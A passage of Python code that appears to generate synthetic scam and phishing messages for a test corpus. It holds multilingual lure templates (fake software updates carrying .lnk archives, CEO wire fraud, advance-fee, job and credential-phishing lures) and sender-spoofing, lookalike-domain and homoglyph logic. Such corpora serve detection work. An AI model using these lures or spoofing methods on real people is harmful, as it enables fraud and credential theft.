    E("pl", "Aktualizacja Microsoft Teams wymagana", "Twoja wersja aplikacji Teams nie jest już obsługiwana. Pobierz aktualizację, aby dołączyć do spotkania:\n{url}",
      v="free_other", y=(2021, 2026), link="host", file="Teams_aktualizacja.zip"),
    E("ru", "Обновление Skype для бизнеса — обязательно", "Уважаемый сотрудник! Для участия в совещании необходимо установить обновление клиента. Скачайте архив по ссылке, пароль: 2024\n{url}",
      v="free_other", y=(2018, 2024), link="host", file="Skype_update.rar"),
    E("uk", "Запрошення на нараду: відкрийте документ", "Доброго дня! Надсилаємо порядок денний наради. Документ захищено, для перегляду завантажте архів та відкрийте файл Agenda.pdf.lnk\nПароль: 1234\n{url}",
      v="compromised", y=(2022, 2026), link="host", file="Agenda.zip"),
]

BEC = [
    E("en", "Quick request", "Hi {first},\nAre you at your desk? I need you to handle a confidential payment for me today. I'm in meetings all afternoon and can't take calls. Reply to this email with your availability.\n\n{sname}\nSent from my iPhone", v="bec_free"),
    E("en", "Urgent wire - vendor change", "Hello,\nPlease note our vendor Apex Components has updated their banking details. Kindly process the pending invoice of $48,950.00 to the new account below today:\nBank: First Citizens\nRouting: 0210000{digits:2}\nAccount: {digits:10}\nLet me know once done.\nThanks",
      v="bec_look"),
    E("en", "Favor", "Hey, I need a favor. I'm planning to surprise some of our staff with gift cards today. Can you help me purchase Apple gift cards? I'll reimburse you. Let me know ASAP.\n{sname}", v="bec_free"),
    E("en", "Direct deposit update", "Hi,\nI changed banks and would like my next paycheck to go to my new account. What info do you need from me? Is it possible to update before the next payroll run?\nThanks,\n{sname}", v="bec_free"),
    E("en", "Confidential - Project Falcon", "{first},\n\nWe are in the final stage of a confidential acquisition. I have instructed our external counsel, Mr. David Hartley, to contact you regarding a payment that must be processed today. Please treat this matter with strict confidentiality and do not discuss it with anyone else in the office until the announcement.\n\nI am in a meeting and cannot take calls, but I am available by email.\n\nRegards,\n{sname}\nChief Executive Officer",
      v="bec_look"),
    E("de", "Vertraulich – dringende Überweisung", "Hallo {first},\nich brauche heute noch deine Unterstützung bei einer vertraulichen Transaktion. Bitte behandle das diskret und sprich vorerst mit niemandem darüber. Ich sitze gerade in einer Besprechung und kann nicht telefonieren. Antworte mir bitte kurz per E-Mail, ob du heute Zeit hast.\n\nGruß\n{sname}",
      v="bec_free"),
    E("fr", "Demande confidentielle", "Bonjour {first},\nJ'ai besoin que vous traitiez un virement international urgent dans le cadre d'une opération confidentielle. Pouvez-vous me confirmer votre disponibilité ? Je suis en réunion et ne peux pas être joint par téléphone.\nCordialement,\n{sname}",
      v="bec_look"),
    E("es", "Urgente – cambio de cuenta bancaria", "Buenos días,\nLe informamos de que nuestra cuenta bancaria ha cambiado debido a una auditoría. Por favor, realice el pago de las facturas pendientes a la nueva cuenta IBAN ES{digits:2} {digits:4} {digits:4} {digits:2} {digits:10}.\nAtentamente,\nDepartamento de Administración",
      v="compromised"),
    E("it", "Richiesta urgente e riservata", "Ciao {first},\nsei in ufficio? Ho bisogno che mi aiuti con un pagamento urgente da fare oggi. Sono in riunione e non posso telefonare, rispondimi via email.\nGrazie\n{sname}", v="bec_free"),
    E("nl", "Dringend verzoek", "Goedemiddag {first},\nKun je vandaag een spoedbetaling voor me regelen? Het gaat om een vertrouwelijke overname, dus graag discreet behandelen. Ik zit in overleg en ben telefonisch niet bereikbaar.\nMet vriendelijke groet,\n{sname}",
      v="bec_look"),
]

ADVANCE = [
    E("en", "Re: Unclaimed inheritance of late Engr. {rlast}", "Dear {name},\nI am Barrister James Okoro, personal attorney to late Engr. {rlast}, a national of your country, who died with his family in a car accident in 2019. He left behind a deposit of US$8.5 million with a bank here in Lome. I contacted you because you share the same surname. Reply with your full name, phone number and address so we can proceed.\nRegards,\nBarr. James Okoro (Esq)",
      v="free_other"),
    E("en", "UNITED NATIONS COMPENSATION FUND - PAYMENT NOTIFICATION", "ATTENTION BENEFICIARY,\nTHIS IS TO INFORM YOU THAT YOUR COMPENSATION FUND OF $2,500,000.00 USD HAS BEEN APPROVED FOR PAYMENT VIA ATM VISA CARD. CONTACT THE PAYMENT OFFICER DR. MARK WILLIAMS WITH YOUR DETAILS: FULL NAME, ADDRESS, PHONE NUMBER, AGE.\nEMAIL: {pick:unpayment.office|atm.dept.un|dr.markwilliams}{digits:2}@{pick:outlook.com|gmail.com|yahoo.com}",
      v="yahoo"),
    E("en", "Please I need your help", "Dearest one,\nI am Mrs. Helen Carter, a widow suffering from cancer. I have decided to donate my late husband's fund of $4.2 million to a God-fearing person who will use it for charity. Please reply for more details.\nGod bless you.",
      v="gcal"),
    E("en", "Your email won GBP 1,000,000.00 in the online draw", "Your email address was selected in the international online draw held on {day}. Winning No: EM-{digits:4}-{digits:3}. Contact our claims agent Mr. Paul Smith, {phone}, to process your winnings. Keep this confidential to avoid double claims.",
      v="free_other"),
    E("en", "Business proposal - crude oil allocation", "Good day,\n\nI am Dr. Ahmed Bello, a senior official with the national petroleum corporation. I am seeking a reliable foreign partner to receive proceeds of an over-invoiced contract amounting to US$18.6 million. You will be entitled to 30% of the total sum. The transaction is 100% risk free.\n\nKindly reply with your private telephone number for further discussion.\n\nYours faithfully,\nDr. Ahmed Bello",
      v="outlookcom"),
    E("en", "ATM CARD DELIVERY", "Your ATM card worth $1.5M is ready for delivery. send ur full name , address and $150 delivery fee to our agent. contact: courier.dept{digits:2}@gmail.com", v="php"),
    E("fr", "Héritage – réponse urgente", "Bonjour,\nJe suis Maître Kouassi, notaire à Abidjan. Un de mes clients, décédé sans héritier, a laissé une somme de 3 500 000 €. Je souhaite vous présenter comme bénéficiaire. Merci de me répondre avec vos coordonnées complètes.\nMe Kouassi",
      v="free_other"),
    E("es", "Propuesta de negocio confidencial", "Estimado amigo,\nSoy el Sr. Daniel Moreno, gerente de un banco en Madrid. Tengo una propuesta de negocio por valor de 7.500.000 €. Necesito su ayuda para transferir estos fondos. Usted recibirá el 40%. Responda con su nombre y número de teléfono.",
      v="gcal"),
    E("pt", "Doação de caridade para você", "Olá, sou a Sra. Maria Fernandes. Tenho um câncer terminal e decidi doar US$ 2.000.000 para caridade através de você. Por favor responda com seu nome completo e telefone.", v="outlookcom", x={"icsonly"}),
    E("ar", "عرض عمل سري وعاجل", "السلام عليكم،\nأنا المحامي خالد إبراهيم، لدي موكل متوفى ترك مبلغ 12 مليون دولار في أحد البنوك دون وريث. أود التعاون معك لتحويل المبلغ مقابل 40٪. الرجاء الرد مع اسمك الكامل ورقم هاتفك.",
      v="gcal"),
]

JOBS = [
    E("en", "Remote Part-Time Job - Earn $300-$800/day", "Hello! We are recruiting online part-time staff. Work 60-90 minutes a day from your phone. Daily pay $300-$800. No experience needed.\nContact our HR on WhatsApp: https://wa.me/{wa}", v="gcal"),
    E("en", "Interview invitation - Data Entry Assistant (Remote)", "Dear applicant,\nYour resume has been shortlisted for the Remote Data Entry Assistant position ($42/hour). The interview will be conducted via Telegram chat. Please add our hiring manager @{pick:HR_Linda_Recruit|talentdesk_hr|amz_hiring_team} and send your full name.\nRegards, Recruitment Team",
      v="outlookcom"),
    E("en", "Product Reviewer Position - Start Today", "Hi {first},\nWe found your profile on a job site. Our company helps online sellers boost product rankings. You earn commission for each task (like/review). Paid daily in USDT.\nChat with your mentor: https://t.me/{pick:taskmentor_amy|optimize_jobs|mercury_tasks}",
      v="gcal", x={"locurl"}),
    E("en", "Follow-up: Remote Operations Coordinator (contract)", "Hello {first},\n\nThank you for your interest. I'm a talent partner supporting a client in the e-commerce sector. We'd like to invite you to a short text-based screening. The role is fully remote, flexible hours, $28-$35/h.\n\nPlease message our coordinator on WhatsApp at +{wa} with the code JOB-{digits:4} to book your slot.\n\nBest,\nSarah M.\nTalent Acquisition",
      v="look", words=["talent", "careers", "remote", "hr"]),
    E("id", "Lowongan kerja paruh waktu – gaji harian", "Halo kak, kami membuka lowongan kerja online paruh waktu. Cukup like dan follow produk, gaji Rp 500.000 – 2.000.000 per hari. Hubungi admin via WhatsApp: https://wa.me/{wa}", v="gcal"),
    E("hi", "घर बैठे कमाएं ₹5000 रोज़ – पार्ट टाइम जॉब", "नमस्ते! हमारी कंपनी को पार्ट टाइम काम के लिए लोगों की ज़रूरत है। रोज़ाना 1-2 घंटे काम करें और ₹3000-₹5000 कमाएं। अभी टेलीग्राम पर संपर्क करें: https://t.me/{pick:hr_priya_jobs|workfromhome_in}",
      v="gcal"),
    E("vi", "Tuyển cộng tác viên online – thu nhập 500k-2 triệu/ngày", "Chào bạn, công ty chúng tôi đang tuyển cộng tác viên làm việc tại nhà, chỉ cần điện thoại. Thu nhập 500.000đ - 2.000.000đ/ngày, nhận lương trong ngày.\nLiên hệ Zalo: {phone}",
      v="free_other"),
    E("th", "รับสมัครงานออนไลน์ รายได้วันละ 1,500 บาท", "สวัสดีค่ะ บริษัทของเรากำลังรับสมัครพนักงานพาร์ทไทม์ทำงานผ่านมือถือ รายได้วันละ 800-1,500 บาท ไม่ต้องมีประสบการณ์ สนใจแอดไลน์: @{pick:job88th|workhome_th}",
      v="gcal", x={"altdesc"}),
    E("es", "Oferta de empleo: asistente remoto (1.800€/mes)", "Hola,\nHemos revisado su perfil y creemos que encaja en nuestro puesto de asistente administrativo remoto. Sueldo 1.800€/mes, 4 horas al día. Para la entrevista, escriba a nuestra responsable de RR. HH. por WhatsApp: +{wa}",
      v="outlookcom"),
    E("pt", "Vaga home office – ganhe até R$ 400 por dia", "Olá! Estamos contratando para trabalho home office, avaliando produtos online. Ganhos de R$ 150 a R$ 400 por dia, pagamento via Pix.\nFale com a recrutadora no WhatsApp: https://wa.me/{wa}",
      v="gcal", x={"icsonly"}),
    E("ro", "Ofertă de muncă de acasă – 250 lei/zi", "Bună ziua, căutăm colaboratori pentru muncă online de acasă, 1-2 ore pe zi, câștig 150-250 lei pe zi. Scrieți-ne pe Telegram: https://t.me/{pick:jobs_ro_online|hr_andreea}",
      v="free_other"),
]

SHARE = [
    E("en", "{sname} shared \"RFQ_{digits:5}.pdf\" with you", "{sname} has shared a document with you via OneDrive.\n\nRFQ_{digits:5}.pdf\n\nPlease review the request for quotation and revert before end of week.\n\nOpen: {url}", link="sharepoint"),
    E("en", "Updated remittance advice", "Good morning,\n\nPlease see the updated remittance advice for the payment released today. The file is stored on our secure portal.\n\nView Remittance: {url}\n\nKind regards,\n{sname}\nAccounts Payable", link="host"),
    E("en", "Review: project proposal - {pick:Phase 2|Final Draft|v3}", "Hi,\nI'm sharing the revised proposal ahead of our call. Please let me know your thoughts.\n{url}\nThanks,\n{sname}", link="docsend"),
    E("en", "Invitation to edit: Signed NDA", "You've been invited to view and edit \"Signed NDA.pdf\".\nAccess document: {url}\nThis invitation was sent by {sname} using a secure file-sharing service.", link="canva"),
    E("en", "Payment copy - Invoice {digits:6}", "Hello,\n\nAttached is the payment copy for your outstanding invoice. Kindly confirm receipt.\n\nThe document is protected; click below and sign in with your email to view:\n{url}\n\nBest,\n{sname}", link="host", x={"attach"}),
    E("de", "{sname} hat eine Datei mit Ihnen geteilt", "Guten Tag,\nanbei die aktualisierte Auftragsbestätigung zur Kenntnisnahme. Bitte prüfen Sie die Unterlagen und geben Sie uns bis Freitag Rückmeldung.\nDokument öffnen: {url}\nMit freundlichen Grüßen\n{sname}", link="sharepoint"),
    E("nl", "Gedeeld document: Offerte {year}", "Beste,\nHierbij ontvangt u onze offerte via een beveiligde link. Log in met uw zakelijke e-mailadres om het document te bekijken.\n{url}\nMet vriendelijke groet,\n{sname}", link="host"),
    E("sv", "Delat dokument: Faktura och avtal", "Hej,\nJag delar fakturan och det uppdaterade avtalet med dig. Klicka på länken för att öppna dokumentet.\n{url}\nMvh\n{sname}", link="dropbox"),
    E("it", "Documento condiviso: Ordine di acquisto", "Buongiorno,\nle inoltro l'ordine di acquisto aggiornato tramite link sicuro. La preghiamo di confermare la ricezione.\n{url}\nCordiali saluti,\n{sname}", link="sharepoint", x={"altdesc"}),
    E("ja", "【共有】見積書のご確認のお願い", "いつもお世話になっております。\n見積書を共有いたしますので、ご確認をお願いいたします。\n{url}\nよろしくお願いいたします。\n{sname}", link="host"),
    E("zh", "共享文件：合同草案（请审阅）", "您好，\n合同草案已通过云盘共享，请点击以下链接查看并确认。\n{url}\n谢谢！\n{sname}", link="host", x={"icsonly"}),
]

NAG = [
    E("en", "REMINDER: Claim your reward", "Your reward is still unclaimed! {url}", v="gcal", words=["reward", "claim"], link="short", nag="daily_forever"),
    E("en", "Your protection expires TODAY", "Your device protection expires today. Renew now to stay protected: {url}\nSupport: {phone}", v="icloud", words=["secure", "renew", "device"], nag="hourly"),
    E("en", "Pending payment - action needed", "You have a pending payment of $2,150.00 waiting for you. Accept the transfer before it expires: {url}", v="free_other", words=["transfer", "pending", "pay"], nag="far_future"),
    E("zh", "重要提醒：您的账户积分即将过期", "您的积分将于今日过期，立即兑换礼品：{url}", v="icloud", words=["jifen", "duihuan", "vip"], nag="daily_count"),
    E("ja", "【重要】未払い料金のお知らせ", "未払いのご利用料金があります。本日中にお支払いください。\nお支払い手続き：{url}", v="free_other", words=["pay", "jp", "ryokin"], nag="alarms"),
    E("ru", "Выигрыш ждет вас!", "Поздравляем! Ваш выигрыш 75 000 ₽ ожидает получения. Заберите его: {url}", v="free_other", words=["prize", "vyigrysh", "ru"], nag="weekly_forever"),
    E("tr", "Hediye çekiniz sizi bekliyor!", "1.000 TL değerindeki hediye çekiniz hâlâ kullanılmadı. Hemen alın: {url}", v="gcal", words=["hediye", "cek", "kampanya"], nag="daily_forever"),
    E("he", "תזכורת: החבילה שלך ממתינה", "החבילה שלך ממתינה במרכז החלוקה. יש להסדיר דמי משלוח של 7.90 ₪: {url}", v="gcal", words=["delivery", "il", "pack"], nag="far_future"),
]

MASS = [
    E("en", "Cancelled: ATTENTION BENEFICIARY {digits:4}", "ATTENTION: BENEFICIARY\nYOUR OVERDUE PAYMENT OF $4.8 MILLION USD HAS BEEN RELEASED BY THE FEDERAL GOVERNMENT. CONTACT THE PAYING BANK WITH YOUR FULL NAME AND DIRECT TELEPHONE NUMBER.\nCONTACT EMAIL: {pick:payment.release.office|fgn.payment|remit.desk}@{pick:gmail.com|outlook.com}",
      v="yahoo", y=(2017, 2019), mass=40, yahoocancel=True),
    E("en", "Black Friday -70% Ray-Ban Oakley", "Black Friday Ray-Ban & Oakley 70% off, free shipping >>> {url}", v="icloud", y=(2016, 2017), words=["rayban", "bf", "sale"], mass=60, mo=(11,)),
    E("en", "Get $750 to your Cash App now", "Selected users receive $750 to Cash App. Claim before midnight: {url}", v="gcal", y=(2021, 2026), link="host", mass=120),
    E("en", "Team event - free lunch voucher", "Everyone on this list gets a free lunch voucher worth $100. Register here by {deadline:1}: {url}", v="m365t", y=(2020, 2026), link="gforms", mass=80),
    E("ko", "[광고] 무료 상담 이벤트 안내", "(광고) 개인회생·파산 무료 상담 이벤트! 선착순 100명 한정.\n지금 바로 신청하세요: {url}\n수신거부: {phone}", v="free_other", words=["sangdam", "free", "kr"], mass=30),
    E("th", "โปรโมชั่นพิเศษ! รับเครดิตฟรี 500 บาท", "สมัครวันนี้รับเครดิตฟรี 500 บาท ถอนได้จริง ไม่มีขั้นต่ำ\nคลิกเลย: {url}", v="gcal", words=["slot", "free", "th"], mass=50, link="short"),
    E("uk", "Вітаємо! Ви виграли iPhone 15", "Вашу адресу обрано серед учасників розіграшу. Щоб отримати iPhone 15, оплатіть лише доставку 49 грн: {url}", v="free_other", words=["prize", "ua", "iphone"], mass=35),
    E("id", "Selamat! Anda terpilih mendapatkan saldo DANA Rp 2.500.000", "Selamat! Nomor Anda terpilih mendapatkan saldo DANA Rp 2.500.000. Klaim sekarang sebelum hangus: {url}", v="gcal", words=["dana", "kaget", "klaim"], mass=45, link="short"),
]

CATS = [
    ("retail-sale", RETAIL, dict(y=(2016, 2018), vec={"icloud": 3, "gcal": 2, "yahoo": 1})),
    ("prize-survey", PRIZE, dict(y=(2017, 2026))),
    ("crypto-invest", CRYPTO, dict(y=(2018, 2026))),
    ("dating-sextortion", DATING, dict(y=(2016, 2026))),
    ("fee-scam", FEES, dict(y=(2019, 2026))),
    ("phish-brand", PHISH, dict(y=(2018, 2026))),
    ("callback-scam", CALLBACK, dict(y=(2020, 2026))),
    ("fake-update", UPDATE, dict(y=(2021, 2026))),
    ("bec-fraud", BEC, dict(y=(2017, 2026))),
    ("advance-fee", ADVANCE, dict(y=(2016, 2026))),
    ("job-scam", JOBS, dict(y=(2021, 2026))),
    ("compromised-share", SHARE, dict(y=(2019, 2026))),
    ("nagging-payload", NAG, dict(y=(2016, 2026))),
    ("mass-invite", MASS, dict(y=(2016, 2026))),
]

# ---------------------------------------------------------------- senders
COMPANY_WORDS = {
    "en": ["Harbor", "Pinecrest", "Summit", "Bluewater", "Ironwood", "Keystone", "Meridian", "Redfield", "Northgate", "Clearview"],
    "de": ["Bergmann", "Rheinwerk", "Nordlicht", "Alpen", "Elbtal", "Hanse"], "fr": ["Atelier", "Provence", "Lumière", "Rivage", "Chêne"],
    "es": ["Iberia", "Solana", "Costa", "Mirador"], "it": ["Toscana", "Adriatica", "Vesuvio", "Dolomiti"], "nl": ["Polder", "Delta", "Zeeland", "Dijk"],
    "sv": ["Fjäll", "Skog", "Norr", "Älv"], "ja": ["sakura", "fuji", "minato"], "zh": ["huaxin", "dongfang", "jinlong"], "pl": ["Wisla", "Tatra"],
    "ru": ["sever", "ural"], "uk": ["dnipro", "karpaty"], "cs": ["vltava", "morava"], "pt": ["Atlantico", "Serra"], "tr": ["Anadolu", "Ege"],
}
SUFFIX = {"en": ["Logistics", "Engineering", "Supply Co", "Partners", "Manufacturing", "Consulting"], "de": ["GmbH", "Logistik GmbH", "Technik AG"],
          "fr": ["SARL", "Industries", "Conseil"], "es": ["S.L.", "Distribuciones"], "it": ["S.r.l.", "Forniture"], "nl": ["B.V.", "Groep"],
          "sv": ["AB", "Bygg AB"], "ja": ["Trading", "Kogyo"], "zh": ["Trading", "Group"]}


def partner_org(rng, lang):
    w = rng.choice(COMPANY_WORDS.get(lang, COMPANY_WORDS["en"]))
    suf = rng.choice(SUFFIX.get(lang, SUFFIX["en"]))
    name = "%s %s" % (w.capitalize(), suf)
    from i18n import local_part
    dom = "%s-%s.%s" % (local_part(w), local_part(suf.split(" ")[0].replace(".", "")), rng.choice(["example", "example", "test"]))
    return name, dom


def brand_display(rng, brand):
    if not brand:
        return None
    r = rng.random()
    if r < 0.15:
        return zw(rng, brand)
    if r < 0.3:
        return homoglyph(rng, brand)
    return brand


def choose(rng, weights):
    items = list(weights.items())
    tot = sum(w for _, w in items)
    x = rng.random() * tot
    for k, w in items:
        x -= w
        if x <= 0:
            return k
    return items[-1][0]


ESP_ENV = {
    "sendgrid": lambda rng, d: "bounces+%d-%s-%s=%s@em%d.%s" % (rng.randint(1000000, 9999999), hexid(rng, 4), "user", "example.net", rng.randint(1000, 9999), d),
    "ses": lambda rng, d: "0102%s-%s-%s-%s-%s-000000@%s.amazonses.com" % (hexid(rng, 12), hexid(rng, 8), hexid(rng, 4), hexid(rng, 4), hexid(rng, 4), rng.choice(["eu-west-1", "us-east-1"])),
    "mailgun": lambda rng, d: "bounce+%s.%s-user=example.net@%s" % (hexid(rng, 6), hexid(rng, 6), "mg." + d),
    "mandrill": lambda rng, d: "bounce-md_%d.%s.v1-%s@%s" % (rng.randint(30000000, 39999999), hexid(rng, 8), hexid(rng, 32), "mandrillapp.com"),
    "sparkpost": lambda rng, d: "msprvs1=%s=bounces-%d@sparkpostmail.com" % (alnum(rng, 14), rng.randint(100000, 999999)),
    "brevo": lambda rng, d: "%s@sendinblue.com" % alnum(rng, 30).lower(),
    "postmark": lambda rng, d: "pm_bounces@pm-bounces.%s" % d,
}


def setup_sender(m, vec, e):
    rng = m.rng
    brand = e.get("brand")
    words = e.get("words") or ["secure", "service", "account", "online"]
    if vec == "gcal":
        p, addr, _ = freemail_sender(m, "gmail.com", style=rng.choice(["dot", "num", "rand", "rand"]))
        name = brand_display(rng, brand) or (p.display if rng.random() < 0.6 else p.latin)
        set_sender(m, name, addr, "gcal", env=gcal_env(m))
        m.client = "gcal"
    elif vec == "icloud":
        p, addr, _ = freemail_sender(m, "icloud.com", p=person(rng, rng.choice(["zh", "en", "zh"])) if m.lang in ("en", "zh") else None, style=rng.choice(["num", "rand", "dot"]))
        set_sender(m, brand_display(rng, brand) or (p.display if m.lang == "zh" else p.latin), addr, "icloud")
        m.client = rng.choice(["icloudweb", "icloudweb", "apple"])
    elif vec == "yahoo":
        p, addr, _ = freemail_sender(m, "yahoo.com", style=rng.choice(["num", "rand"]))
        set_sender(m, brand_display(rng, brand) or p.latin, addr, "yahoo")
        m.client = "yahoo"
    elif vec == "outlookcom":
        p, addr, _ = freemail_sender(m, rng.choice(["outlook.com", "hotmail.com", "outlook.com"]), style=rng.choice(["num", "rand", "dot"]))
        set_sender(m, brand_display(rng, brand) or p.latin, addr, "outlookcom")
        m.client = rng.choice(["outlook", "outlook", "icsonly", "outlook_fw"])
    elif vec == "m365t":
        ten = alnum(rng, rng.randint(5, 10), "abcdefghijklmnopqrstuvwxyz") + rng.choice(["", str(rng.randint(1, 99))])
        dom = "%s.onmicrosoft.com" % ten
        lp = rng.choice(["admin", "info", "support", "noreply", "billing", "hr", alnum(rng, 6, "abcdefghijklmnopqrstuvwxyz")])
        set_sender(m, brand_display(rng, brand) or rng.choice(["Admin", "IT Support", "Notification", ten.capitalize()]), "%s@%s" % (lp, dom), "m365")
        m.client = "outlook"
        m.dkim_domain = dom
    elif vec in ("look", "bec_look"):
        if vec == "bec_look":
            dom = rng.choice(["example-net.co", "examplenet-mail.com", "exampie.net", "example-net.org", "examp1e-net.com", "mail-example.net.co"])
        else:
            dom = spam_domain(rng, words)
        lp = rng.choice(["noreply", "no-reply", "info", "support", "service", "notification", "secure", "mail", "billing", "team"])
        via = rng.choice(["esp", "vps", "vps", "esp"])
        if via == "esp":
            m.esp = rng.choice(["sendgrid", "ses", "mailgun", "brevo"])
            env = ESP_ENV[m.esp](rng, dom)
            set_sender(m, None, "%s@%s" % (lp, dom), "esp", env=env if m.esp != "mailgun" else "bounce@mg.%s" % dom)
            m.dkim_domain = dom
        else:
            set_sender(m, None, "%s@%s" % (lp, dom), "vps", env="%s@%s" % (lp, dom))
            m.dkim_domain = dom
            m.host_domain = dom
        m.auth = ("pass", "pass", rng.choice(["pass", "pass", "none"]))
        if vec == "bec_look":
            m.from_name = None
        else:
            m.from_name = brand_display(rng, brand)
        m.client = rng.choice(["nodemailer", "phpmailer", "python", "bare", "icsonly", "java", "outlook"])
        if m.client == "outlook":
            m.infra = "m365"
            m.dkim_domain = dom
    elif vec == "spoof":
        sdom = e.get("sdom") or rng.choice(["paypal.com", "microsoft.com", "apple.com"])
        lp = rng.choice(["service", "no-reply", "noreply", "security", "info", "support"])
        env_dom = rng.choice(["vps%d.hosting-node.test" % rng.randint(1, 999), spam_domain(rng, ["mail", "srv", "node"])])
        set_sender(m, brand_display(rng, brand), "%s@%s" % (lp, sdom), "vps", env="%s@%s" % (alnum(rng, 8, "abcdefghijklmnopqrstuvwxyz"), env_dom),
                   auth=("none", rng.choice(["pass", "softfail", "none"]), "fail"), p=rng.choice(["reject", "quarantine"]))
        m.host_domain = env_dom
        m.client = rng.choice(["phpmailer", "bare", "icsonly", "python"])
    elif vec == "spoof_self":
        # sextortion: From equals the recipient's own address
        set_sender(m, None, m.rcpt_addr, "vps", env=m.rcpt_addr, auth=("none", rng.choice(["fail", "softfail"]), rng.choice(["fail", "none"])), p="none")
        m.host_domain = spam_domain(rng, ["mx", "mail", "host"])
        m.client = rng.choice(["bare", "icsonly", "phpmailer"])
    elif vec == "esp":
        dom = spam_domain(rng, words)
        m.esp = rng.choice(["sendgrid", "ses", "mailgun", "mandrill", "sparkpost", "brevo"])
        base = {"sendgrid": "sendgrid.net", "ses": "amazonses.com", "mailgun": "mailgun.org", "mandrill": "mandrillapp.com", "sparkpost": "sparkpostmail.com", "brevo": "sendinblue.com"}[m.esp]
        env = ESP_ENV[m.esp](rng, base)
        lp = rng.choice(["news", "offers", "info", "hello", "promo", "noreply"])
        set_sender(m, brand_display(rng, brand) or words[0].capitalize(), "%s@%s" % (lp, dom), "esp", env=env,
                   auth=("pass", "pass", rng.choice(["fail", "none", "none"])))
        m.dkim_domain = base if rng.random() < 0.6 else None
        m.client = rng.choice(["nodemailer", "phpmailer", "python", "java", "platform"])
    elif vec == "php":
        site = "%s-%s.%s" % (rng.choice(["bakery", "dental", "yoga", "autoservice", "fotostudio", "hotel", "parish", "campsite", "florist"]),
                             rng.choice(["lindenhof", "bellavista", "sunrise", "central", "am-see", "sol", "miramar"]), rng.choice(["example", "test"]))
        set_sender(m, brand_display(rng, brand), "%s@%s" % (rng.choice(["wordpress", "info", "noreply", "mailer", "www-data"]), site), "phpmail",
                   env="%s@%s" % (rng.choice(["www-data", "apache", "web%d" % rng.randint(1, 40)]), site),
                   auth=("none", rng.choice(["pass", "neutral", "none"]), "none"))
        m.host_domain = site
        m.client = rng.choice(["phpmailer", "bare", "icsonly"])
    elif vec == "free_other":
        dom = {"ru": "mail.ru", "uk": "ukr.net", "ko": "naver.com", "zh": "qq.com", "ja": "yahoo.co.jp"}.get(m.lang) or rng.choice(["mail.ru", "yandex.ru", "gmx.net", "zohomail.com", "proton.me", "qq.com", "163.com", "aol.com", "gmail.com"])
        p, addr, inf = freemail_sender(m, dom, style=rng.choice(["num", "rand", "dot"]))
        set_sender(m, brand_display(rng, brand) or (p.display if rng.random() < 0.5 else p.latin), addr, inf)
        if inf == "gmail":
            m.infra = "gmail"
        m.client = rng.choice(["tbird", "icsonly", "bare", "python", "apple", "zoho" if inf == "zoho" else "icsonly", "proton" if inf == "proton" else "tbird"])
    elif vec == "compromised":
        oname, dom = partner_org(rng, m.lang)
        p = person(rng, m.lang)
        addr = "%s.%s@%s" % (p.first_lat, p.last_lat, dom)
        kind = rng.choice(["m365", "m365", "gworkspace", "selfhosted"])
        set_sender(m, p.display, addr, kind if kind != "gworkspace" else "gworkspace")
        m.org_name = oname
        if kind == "m365":
            m.client = rng.choice(["outlook", "outlook", "outlook_fw"])
            m.dkim_domain = dom
        elif kind == "gworkspace":
            m.client = "gcal"
            m.envelope_from = gcal_env(m)
            m.infra = "gcal"
        else:
            m.client = rng.choice(["tbird", "zimbra", "sogo", "nextcloud"])
            m.dkim_domain = dom if rng.random() < 0.5 else None
            m.auth = ("pass" if m.dkim_domain else "none", "pass", "pass" if m.dkim_domain else "none")
            m.host_domain = dom
    elif vec == "bec_free":
        p = person(rng, m.lang)
        dom = rng.choice(["gmail.com", "outlook.com", "icloud.com", "gmail.com", "aol.com"])
        lp = rng.choice(["%s.%s.ceo" % (p.first_lat, p.last_lat), "%s%s.office" % (p.first_lat[0], p.last_lat), "exec.%s%d" % (p.last_lat, rng.randint(1, 99)),
                         "%s.%s%d" % (p.first_lat, p.last_lat, rng.randint(1, 99))])
        addr = "%s@%s" % (lp, dom)
        set_sender(m, p.display, addr, FREEMAIL.get(dom, "gmail"))
        if m.infra == "gmail" and rng.random() < 0.5:
            m.infra = "gcal"
            m.envelope_from = gcal_env(m)
            m.client = "gcal"
        else:
            m.client = {"outlookcom": "outlook", "icloud": "apple"}.get(m.infra, rng.choice(["icsonly", "tbird"]))
        m.reply_to = "%s.%s%d@%s" % (p.first_lat, p.last_lat, rng.randint(1, 999), rng.choice(["gmail.com", "outlook.com", "proton.me"])) if rng.random() < 0.5 else None
    else:
        raise ValueError(vec)


def make_link(m, e):
    rng = m.rng
    k = e.get("link", "look_or_host")
    words = e.get("words") or ["secure", "portal", "login"]
    if k == "look_or_host":
        k = rng.choice(["look", "look", "host", "short", "redir"])
    if k == "look":
        dom = spam_domain(rng, words)
        path = rng.choice(["", "/", "/login", "/verify", "/claim", "/?id=%s" % alnum(rng, 10), "/%s" % alnum(rng, 6), "/track/%s" % hexid(rng, 8),
                           "/index.php?u=%s" % alnum(rng, 12)])
        return "https://%s%s%s" % (rng.choice(["", "www.", "secure.", "account.", "my."]), dom, path)
    if k == "host":
        return hosted(rng)
    if k in ("gforms", "docsend", "canva", "dropbox"):
        return hosted(rng, {"gforms": "gforms", "docsend": "docsend", "canva": "canva", "dropbox": "dropbox"}[k])
    if k == "short":
        return short(rng)
    if k == "redir":
        return redirect(rng, "https://" + spam_domain(rng, words) + "/" + alnum(rng, 8))
    if k == "sharepoint":
        ten = alnum(rng, rng.randint(5, 9), "abcdefghijklmnopqrstuvwxyz")
        return rng.choice(["https://%s-my.sharepoint.com/:b:/g/personal/%s_%s_onmicrosoft_com/E%s?e=%s" % (ten, alnum(rng, 5, "abcdefghijklmnopqrstuvwxyz"), ten, b64url(rng, 33), alnum(rng, 6)),
                           "https://1drv.ms/b/s!A%s" % b64url(rng, 20), hosted(rng, "blob"), hosted(rng, "workers")])
    if k == "kakao":
        return "https://open.kakao.com/o/g%s" % alnum(rng, 7)
    return hosted(rng)


NAG_SHAPES = {
    "daily_forever": dict(rrule="FREQ=DAILY", alarms=[dict(trigger="-PT5M", description="Reminder"), dict(trigger="PT0S", description="Reminder")]),
    "hourly": dict(rrule="FREQ=HOURLY;INTERVAL=1", alarms=[dict(trigger="-PT1M", description="Alert")]),
    "far_future": dict(rrule=None, alarms=[dict(trigger="-P7D", description="Reminder"), dict(trigger="-P1D", description="Reminder"), dict(trigger="-PT10M", description="Reminder", repeat=20, rduration="PT2M")]),
    "daily_count": dict(rrule="FREQ=DAILY;COUNT=365", alarms=[dict(trigger="-PT15M", description="提醒")]),
    "alarms": dict(rrule="FREQ=DAILY;UNTIL=20301231T000000Z", alarms=[dict(trigger="-PT%dM" % k, description="リマインダー") for k in (1, 5, 10, 30, 60)]),
